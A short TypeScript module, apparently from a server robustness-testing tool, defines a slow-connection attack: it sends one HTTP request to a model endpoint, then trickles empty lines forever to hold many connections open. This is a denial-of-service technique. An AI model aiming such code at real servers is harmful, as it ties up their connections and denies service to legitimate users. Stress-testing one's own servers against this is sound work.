/** After one request, empty lines for ever: a parser skips them before a request line. */
import { Buffer } from 'node:buffer';
import { type Attack, hold } from './attack.ts';

/** @param count of connections */
export function slowBlankLines(count: number): Attack {
  const greeting = Buffer.from('GET /v1/models/digits HTTP/1.1\r\nhost: attack\r\n\r\n\r\n');
  return (target, seconds, signal) => hold(target, seconds, signal, { count, greeting, drip: Buffer.from('\r\n') });
}
